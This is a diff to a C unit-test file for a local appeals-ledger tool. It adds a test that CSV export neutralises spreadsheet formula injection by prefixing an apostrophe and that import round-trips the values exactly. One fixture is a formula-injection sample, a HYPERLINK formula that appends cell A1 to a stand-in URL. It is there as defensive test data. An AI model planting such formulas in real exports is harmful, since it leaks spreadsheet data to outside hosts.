@@ -9,8 +9,10 @@
  * row's branch, then by role, and the guess is reported; every kind of bad
  * file is refused naming the data row and the column, with nothing at all
  * imported (the database file stays byte-identical); a hall may not import;
- * and export -> import -> export gives the same rows, for the demo town and
- * for appeals in every reachable state.
+ * and export -> import -> export gives the same rows, for the demo town, for
+ * appeals in every reachable state, and for texts, notes, answers and names
+ * a spreadsheet would take for formulas (written with an apostrophe, which
+ * import takes off again).
  *
  * One demo database is made for the whole program and copied per test.
  */
@@ -1028,6 +1030,136 @@ static void test_round_trip_states(void **state)
     free(b);
 }
 
+/* Where each field of a CSV file starts, as written (quoted or not): the
+ * first character of its text, or 0 for an empty field. Calls fn for each. */
+static void raw_field_starts(const char *s, void (*fn)(char first, const char *at))
+{
+    int start = 1, quoted = 0;
+    for (const char *p = s; *p; p++) {
+        if (start) {
+            start = 0;
+            if (*p == '"') {
+                quoted = 1;
+                fn(p[1] == '"' && p[2] != '"' ? 0 : p[1], p);
+                continue;
+            }
+            fn(*p == ',' || *p == '\r' || *p == '\n' ? 0 : *p, p);
+        }
+        if (quoted) {
+            if (*p == '"' && p[1] == '"')
+                p++;
+            else if (*p == '"')
+                quoted = 0;
+            continue;
+        }
+        if (*p == ',')
+            start = 1;
+        else if (*p == '\n')
+            start = 1;
+    }
+}
+
+static int g_formula_starts;
+
+static void no_formula_start(char first, const char *at)
+{
+    if (first && strchr("=+-@\t\r", first)) {
+        print_error("a field a spreadsheet would run: %.40s\n", at);
+        g_formula_starts++;
+    }
+}
+
+/* Texts, notes, answers and names that Excel would run as formulas are
+ * written with an apostrophe (no field of the file starts with = + - @ or
+ * a tab), and import takes exactly that apostrophe off: export -> import ->
+ * export gives the same file and the same texts. */
+static void test_round_trip_formulas(void **state)
+{
+    char *db = office_like(*state, "office.db", g_demo), *a = tu_path(*state, "a.csv"),
+         *b = tu_path(*state, "b.csv");
+    const char *const who[][3] = {{"=王五", "member", "H01"}, {"-李领导", "leader", NULL}};
+    char ids[2][ROSTER_ID_MAX];
+    add_people(db, who, 2, ids);
+    sqlite3 *h;
+    Author self;
+    EwErr e = {0};
+    char uid[ROSTER_ID_MAX];
+    assert_int_equal(db_open(db, 0, &h, &e), EW_OK);
+    assert_int_equal(db_begin(h, &e), EW_OK);
+    assert_int_equal(device_load_self(h, &self, &e), EW_OK);
+    assert_int_equal(roster_add_unit(h, &self, NULL, "@供电所", 0, uid, &e), EW_OK);
+    assert_int_equal(db_commit(h, &e), EW_OK);
+    db_close(h);
+
+    static const char *const texts[] = {
+        "=HYPERLINK(\"http://example.org/?\"&A1,\"点我\")", "+86 138 打不通", "-5度也没有暖气",
+        "@所有人 路灯坏了", "'=本来就带撇号", "''-两个撇号", "\t=前面是制表符", "'不是公式的撇号"};
+    enum { N = sizeof texts / sizeof texts[0] };
+    char codes[N][CODE_MAX];
+    tu_pin_day("2026-07-01");
+    for (int i = 0; i < N; i++) {
+        CtlRun r = CTL(db, "appeal", "add", "--hall", "H01", "--category", "其他", "--text",
+                       texts[i]);
+        EXPECT(r, 0, NULL);
+        assert_int_equal(sscanf(r.out, "%23s", codes[i]), 1);
+        tu_ctl_free(&r);
+    }
+    step(db, "2026-07-02", (const char *const[]){"appeal", "grade", codes[0], "blue", NULL});
+    step(db, "2026-07-02", (const char *const[]){"appeal", "assign", codes[0], "--member", ids[0],
+                                                 "--leader", ids[1], "--unit", uid, NULL});
+    step(db, "2026-07-03", (const char *const[]){"appeal", "progress", codes[0], "--note",
+                                                 "+已联系供电所", NULL});
+    step(db, "2026-07-04", (const char *const[]){"appeal", "grade", codes[1], "green", NULL});
+    step(db, "2026-07-04", (const char *const[]){"appeal", "assign", codes[1], "--member", ids[0],
+                                                 "--leader", ids[1], "--unit", uid, NULL});
+    step(db, "2026-07-05", (const char *const[]){"appeal", "solve", codes[1], "--answer",
+                                                 "-已换新线路", NULL});
+    tu_pin_day(TODAY);
+
+    CtlRun r = CTL(db, "export", "ledger", a);
+    EXPECT(r, 0, NULL);
+    tu_ctl_free(&r);
+    char *raw = slurp(a);
+    g_formula_starts = 0;
+    raw_field_starts(raw + 3, no_formula_start);
+    assert_int_equal(g_formula_starts, 0);
+    const char *guarded[] = {"'=HYPERLINK(", "'+86 138", "'-5度", "'@所有人", "''=本来就带撇号",
+                             "'''-两个撇号", "'\t=前面是制表符", ",'不是公式的撇号,", "'=王五",
+                             "'-李领导", "'@供电所", "'+已联系供电所", "'-已换新线路"};
+    for (size_t i = 0; i < sizeof guarded / sizeof guarded[0]; i++)
+        if (!strstr(raw, guarded[i])) {
+            print_error("the export lacks %s\n", guarded[i]);
+            fail();
+        }
+    free(raw);
+
+    char *db2 = office_like(*state, "second.db", g_demo);
+    json_t *rep = import_ok(db2, a);
+    assert_int_equal(json_integer_value(json_object_get(rep, "imported")), N);
+    json_decref(rep);
+    r = CTL(db2, "export", "ledger", b);
+    EXPECT(r, 0, NULL);
+    tu_ctl_free(&r);
+    same_export(a, b);
+    static const char *const keys[] = {"text", "member", "leader", "unit", "answer", "status"};
+    for (int i = 0; i < N; i++) {
+        json_t *x = by_text(db, texts[i]), *y = by_text(db2, texts[i]);
+        for (size_t k = 0; k < sizeof keys / sizeof keys[0]; k++)
+            assert_true(json_equal(json_object_get(x, keys[k]), json_object_get(y, keys[k])));
+        json_decref(x);
+        json_decref(y);
+    }
+    json_t *y = by_text(db2, texts[0]);
+    assert_string_equal(jstr(y, "member"), "=王五");
+    assert_string_equal(jstr(y, "leader"), "-李领导");
+    assert_string_equal(jstr(y, "unit"), "@供电所");
+    json_decref(y);
+    free(db);
+    free(db2);
+    free(a);
+    free(b);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1042,6 +1174,7 @@ int main(void)
         cmocka_unit_test_setup_teardown(test_hall_refuses_import, setup, teardown),
         cmocka_unit_test_setup_teardown(test_round_trip_demo, setup, teardown),
         cmocka_unit_test_setup_teardown(test_round_trip_states, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_round_trip_formulas, setup, teardown),
     };
     return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
